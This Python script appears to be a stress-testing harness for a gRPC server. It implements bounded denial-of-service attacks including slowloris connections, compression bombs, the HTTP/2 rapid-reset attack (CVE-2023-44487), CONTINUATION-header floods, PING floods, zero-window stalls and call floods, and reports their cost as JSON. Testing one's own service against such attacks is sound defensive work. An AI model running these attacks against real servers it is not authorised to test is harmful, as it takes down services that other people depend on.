#!/usr/bin/env python3
"""What hostile callers send. Each attack is bounded in time, connections and bytes, and says what it used.

    attacks.py ATTACK ADDRESS key=value ...     runs one and prints its cost as JSON
"""

import contextlib
import dataclasses
import itertools
import json
import os
import pathlib
import socket
import struct
import sys
import threading
import time
import zlib

import http2

GENERATE = "/tandem.v1.Generation/Generate"
INFO = "/tandem.v1.Admin/GetServerInfo"
MIB = 1 << 20


@dataclasses.dataclass
class Cost:
    """What an attack sent, and how its calls ended where it looked."""

    connections: int
    sent_bytes: int
    ended: dict = dataclasses.field(default_factory=dict)


def again_and_again(seconds, connections, once):
    """Calls `once`, which returns what it sent, from so many threads until the time is over; Cost of all."""
    until = time.monotonic() + seconds
    made, sent, lock = 0, 0, threading.Lock()

    def work():
        nonlocal made, sent
        while time.monotonic() < until:
            now = 0
            # A server that refuses or cuts is what is looked for.
            with contextlib.suppress(OSError):
                now = once(until)
            with lock:
                made, sent = made + 1, sent + now
            if now == 0:
                time.sleep(0.01)

    threads = [threading.Thread(target=work) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return Cost(made, sent)


@contextlib.contextmanager
def idle_connections(address, count):
    """Connections that say nothing, opened as fast as they can be and kept open. Gives how many there are."""
    host, port = address.rsplit(":", 1)
    with contextlib.ExitStack() as opened:
        connected = 0
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.enter_context(socket.create_connection((host, int(port)), 2.0))
                connected += 1
        yield connected


def silent(address, seconds, connections=200):
    """Connections that say nothing until the time is over."""
    with idle_connections(address, connections) as connected:
        time.sleep(seconds)
    return Cost(connected, 0)


def inflating_call(address, inflated_mib, path=GENERATE, encoding="gzip", patience=20.0):
    """A message of zeros: small when sent, large when inflated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31 if encoding == "gzip" else 15)
    packed = b"".join(compressor.compress(bytes(MIB)) for _ in range(inflated_mib)) + compressor.flush()
    with http2.Connection(address, timeout=patience) as connection:
        stream = connection.open_stream(path, ("grpc-encoding", encoding))
        with contextlib.suppress(OSError):
            send_within_window(connection, stream, http2.message(packed, compressed=True), end=True)
            while (got := connection.read_frame()) is not None:
                if got[0] in (http2.RST_STREAM, http2.GOAWAY) or (got[0] == http2.HEADERS and got[1] & http2.END_STREAM):
                    break
        return Cost(1, connection.sent)


def inflating(address, seconds, mib=256):
    return again_and_again(seconds, 1, lambda _: inflating_call(address, mib, patience=seconds).sent_bytes)


def send_within_window(connection, stream, data, end=False):
    """Sends as the server allows; ends early when the server ends the stream."""
    window = {0: 65535, stream: 65535}
    sent = 0
    while sent < len(data):
        allowed = min(window[0], window[stream], 16384, len(data) - sent)
        if allowed > 0:
            last = end and sent + allowed == len(data)
            connection.send(
                http2.frame(http2.DATA, http2.END_STREAM if last else 0, stream, data[sent : sent + allowed])
            )
            sent += allowed
            window[0] -= allowed
            window[stream] -= allowed
            continue
        got = connection.read_frame()
        if got is None:
            return
        kind, flags, of_stream, payload = got
        if kind == http2.WINDOW_UPDATE and of_stream in window:
            window[of_stream] += int.from_bytes(payload, "big")
        elif kind == http2.SETTINGS and not flags & http2.ACK:
            for key, value in struct.iter_unpack(">HI", payload):
                if key == http2.INITIAL_WINDOW_SIZE:
                    window[stream] += value - 65535
        elif kind in (http2.RST_STREAM, http2.GOAWAY) or (kind == http2.HEADERS and flags & http2.END_STREAM):
            return


class _Upload:
    """Messages on many streams of one connection, each without its last byte, as far as the server takes them."""

    def __init__(self, connection, streams, mib):
        self._connection = connection
        self._part = http2.message(bytes(mib << 20))[:-1]
        self._sent = {connection.open_stream(GENERATE): 0 for _ in range(streams)}
        self._window = dict.fromkeys(self._sent, 65535)
        self._all_streams = self._initial = 65535

    def send(self):
        """One frame for every stream that may have one. False when none may."""
        progress = False
        for stream, sent in list(self._sent.items()):
            allowed = min(self._all_streams, self._window[stream], 16384, len(self._part) - sent)
            if allowed <= 0:
                continue
            self._connection.send(http2.frame(http2.DATA, 0, stream, self._part[sent : sent + allowed]))
            self._sent[stream] += allowed
            self._window[stream] -= allowed
            self._all_streams -= allowed
            progress = True
        return progress

    def read(self):
        """What the server has said. False when the connection is over; TimeoutError when there is no more for now."""
        while (got := self._connection.read_frame()) is not None:
            kind, flags, stream, payload = got
            if kind == http2.WINDOW_UPDATE:
                by = int.from_bytes(payload, "big")
                if stream == 0:
                    self._all_streams += by
                elif stream in self._window:
                    self._window[stream] += by
            elif kind == http2.SETTINGS and not flags & http2.ACK:
                for key, value in struct.iter_unpack(">HI", payload):
                    if key == http2.INITIAL_WINDOW_SIZE:
                        self._window = {s: w + value - self._initial for s, w in self._window.items()}
                        self._initial = value
            elif kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & http2.END_STREAM):
                self._sent.pop(stream, None)
                self._window.pop(stream, None)
            elif kind == http2.GOAWAY:
                return False
        return False


def unfinished_messages(address, seconds, streams=150, mib=4):
    """Many calls on one connection, each with all but the last byte of a large message, as far as the server takes it."""

    def once(until):
        with http2.Connection(address, timeout=seconds) as connection:
            try:
                upload = _Upload(connection, streams, mib)
                while time.monotonic() < until:
                    connection.socket.settimeout(0.002 if upload.send() else 0.2)
                    try:
                        if not upload.read():
                            break
                    except TimeoutError:
                        pass
                    finally:
                        connection.socket.settimeout(seconds)
            except OSError:
                pass
            return connection.sent

    return again_and_again(seconds, 1, once)


def refused_calls(address, seconds, connections=1):
    """Calls without a token, one after the other without waiting for answers, which are not read either."""

    def once(until):
        with http2.Connection(address, timeout=1.0) as connection:
            with contextlib.suppress(OSError):
                body = http2.message(b"\x0a\x02hi")
                while time.monotonic() < until:
                    stream = connection.open_stream(GENERATE)
                    connection.send_data(stream, body, end=True)
            return connection.sent

    return again_and_again(seconds, connections, once)


def answered_calls(address, seconds, connections=4, at_once=64):
    """Calls without a token, so many at once on each connection, whose answers are read."""

    def once(until):
        with http2.Connection(address, timeout=1.0) as connection:
            body = http2.message(b"\x0a\x02hi")
            with contextlib.suppress(OSError):
                in_flight = 0
                while time.monotonic() < until:
                    for _ in range(at_once - in_flight):
                        connection.send_data(connection.open_stream(GENERATE), body, end=True)
                    in_flight = at_once
                    while in_flight > at_once // 2:
                        got = connection.read_frame()
                        if got is None:
                            return connection.sent
                        in_flight -= got[0] == http2.HEADERS and bool(got[1] & http2.END_STREAM)
            return connection.sent

    return again_and_again(seconds, connections, once)


def resets(address, seconds, connections=1):
    """Calls that are reset at once, without regard to how many there may be (CVE-2023-44487)."""

    def once(until):
        with http2.Connection(address, timeout=1.0) as connection:
            with contextlib.suppress(OSError):
                while time.monotonic() < until:
                    for _ in range(50):
                        stream = connection.open_stream(GENERATE)
                        connection.send(http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)))
                    connection.skip_input()
            return connection.sent

    return again_and_again(seconds, connections, once)


def pings(address, seconds, connections=1):
    """PING frames, whose answers are read."""

    def once(until):
        with http2.Connection(address, timeout=1.0) as connection:
            burst = http2.frame(http2.PING, 0, 0, bytes(8)) * 50
            with contextlib.suppress(OSError):
                while time.monotonic() < until:
                    connection.send(burst)
                    connection.skip_input()
            return connection.sent

    return again_and_again(seconds, connections, once)


def endless_header(address, seconds, connections=1, megabytes=8, piece=16384, huffman=0):
    """One header whose value does not end, in CONTINUATION frames of `piece` bytes each."""

    def once(until):
        with http2.Connection(address, timeout=1.0) as connection:
            with contextlib.suppress(OSError):
                length = http2.integer(1 << 30, 7, first=0x80 if huffman else 0)
                connection.send(http2.frame(http2.HEADERS, 0, 1, http2.request_headers(GENERATE) + b"\x00\x01x" + length))
                # 0x18c6... is "aaaa..." in HPACK's Huffman code: five bits each, 00011.
                unit = bytes.fromhex("18c6318c63") if huffman else b"aaaaa"
                frame = http2.frame(http2.CONTINUATION, 0, 1, (unit * (piece // 5 + 1))[: piece // 5 * 5])
                batch = frame * max(1, 16384 // len(frame))
                for _ in itertools.repeat(None, (megabytes << 20) // len(batch)):
                    if time.monotonic() > until:
                        break
                    connection.send(batch)
            return connection.sent

    return again_and_again(seconds, connections, once)


class WindowlessCalls:
    """Calls on streams whose window is 0: the server has answers that it may not send. They stay until `close`."""

    def __init__(self, address, request, token, count):
        self.connection = http2.Connection(address, settings=[(http2.INITIAL_WINDOW_SIZE, 0)])
        for _ in range(count):
            stream = self.connection.open_stream(GENERATE, ("authorization", f"Bearer {token}"))
            self.connection.send_data(stream, http2.message(request), end=True)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.connection.close()


def windowless(address, seconds, token, request, count=200):
    """Of a tenant. `request` is in hexadecimal digits."""
    with WindowlessCalls(address, bytes.fromhex(request), token, count) as calls:
        time.sleep(seconds)
        return Cost(1, calls.connection.sent)


def slow_readers(address, seconds, token, request, count=64):
    """Calls of a tenant on a connection of each, which takes a few bytes now and then."""

    def once(until):
        with http2.Connection(address, timeout=seconds + 1, receive_buffer=2048) as connection:
            stream = connection.open_stream(GENERATE, ("authorization", f"Bearer {token}"))
            connection.send_data(stream, http2.message(bytes.fromhex(request)), end=True)
            while time.monotonic() < until and connection.socket.recv(16):
                time.sleep(min(0.25, max(until - time.monotonic(), 0)))
            return connection.sent

    return again_and_again(seconds, count, once)


def flood(address, seconds, token, request, count=500, again=1):
    """So many calls of a tenant at once by gRPC's own client, and with `again` a new one for each that ends."""
    import grpc  # The other attacks need nothing but the standard library.

    # Several connections, as one has a bound on its calls.
    channels = [
        grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1), ("grpc.enable_http_proxy", 0)])
        for _ in range(4)
    ]
    stubs = [channel.unary_stream(GENERATE) for channel in channels]
    until = time.monotonic() + seconds
    ended, sent, lock = {}, 0, threading.Lock()

    def work(stub):
        nonlocal sent
        while True:
            left = until - time.monotonic()
            if left <= 0:
                return
            call = stub(bytes.fromhex(request), metadata=[("authorization", f"Bearer {token}")], timeout=left)
            code = "OK"
            try:
                for _ in call:
                    pass
            except grpc.RpcError as error:
                code = error.code().name
            # Ended by this side, as the time is over.
            if code != "DEADLINE_EXCEEDED" or time.monotonic() < until:
                with lock:
                    ended[code] = ended.get(code, 0) + 1
            with lock:
                sent += len(request) // 2
            if not again:
                return
            if code != "OK":
                time.sleep(0.05)

    threads = [threading.Thread(target=work, args=(stubs[i % len(stubs)],)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for channel in channels:
        channel.close()
    return Cost(len(channels), sent, ended)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        *(silent, inflating, unfinished_messages, refused_calls, answered_calls, resets, pings),
        *(endless_header, windowless, slow_readers, flood),
    )
}


def main():
    name, address, *arguments = sys.argv[1:]
    given = {}
    for key, _, value in (argument.partition("=") for argument in arguments):
        if value.startswith("@"):
            value = pathlib.Path(value[1:]).read_text()
        given[key] = value if key in ("token", "request") else float(value) if key == "seconds" else int(value)
    # What it does to others is not to be that it takes their cores.
    os.nice(given.pop("nice", 19))
    print(json.dumps(dataclasses.asdict(ATTACKS[name](address, **given))))


if __name__ == "__main__":
    main()
